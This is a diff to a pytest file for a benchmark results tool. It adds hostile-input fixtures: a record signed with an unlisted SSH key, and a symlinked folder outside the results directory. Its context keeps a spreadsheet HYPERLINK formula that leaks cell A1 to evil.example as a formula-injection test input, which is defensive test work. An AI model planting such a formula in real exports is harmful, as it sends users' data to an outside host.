@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import json
 import shutil
+import subprocess
 import uuid
 from pathlib import Path
 
@@ -19,6 +20,7 @@ import pytest
 from benchmark.hashing import sha256_file
 from benchmark.records import RECORD_FORMAT, record_name
 from benchmark.results import read_results, scores_path, to_table, write_results
+from benchmark.signing import NAMESPACE, sign_record
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -84,10 +86,22 @@ def hostile(tmp_path, demo_run, make_run) -> dict:
     # a self-written "verified" record, and a malformed one
     bad[_write_record(root, _record(zs))] = "unsigned"
     bad[_write_record(root, _record(valid["coop/k4-s1.parquet"], reproduced={}))] = "reproduced.device"
-    # a symlink to a file outside the results folder
+    # a record signed, but by a key nobody listed (the listed reviewer's key is in allowed_signers)
+    keys = tmp_path / "keys"
+    keys.mkdir()
+    for name in ("reviewer", "stranger"):
+        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(keys / name)], check=True)
+    pub = (keys / "reviewer.pub").read_text().strip()
+    (root / "allowed_signers").write_text(f'reviewer@example.org namespaces="{NAMESPACE}" {pub}\n')
+    signed = _write_record(root, _record(valid["coop/k4-s2.parquet"]))
+    sign_record(root / signed, key=keys / "stranger")
+    bad[signed] = "signer not allowed"
+    # a symlink to a file outside the results folder, and one to a folder outside it
     outside = make_run(tmp_path / "elsewhere" / "forged.parquet", method="coop", shots=2, seed=1)
     (root / "coop" / "k2-s1.parquet").symlink_to(outside)
     bad["coop/k2-s1.parquet"] = "outside the results folder"
+    make_run(tmp_path / "elsewhere2" / "k2-s2.parquet", method="coop", shots=2, seed=2)
+    (root / "linked").symlink_to(tmp_path / "elsewhere2", target_is_directory=True)
     # an extra column, an int in one file and text in another
     write_results(base.assign(note=1, run_id=uuid.uuid4().hex, seed=11), root / "extra" / "int.parquet")
     write_results(base.assign(note="x", run_id=uuid.uuid4().hex, seed=12), root / "extra" / "text.parquet")
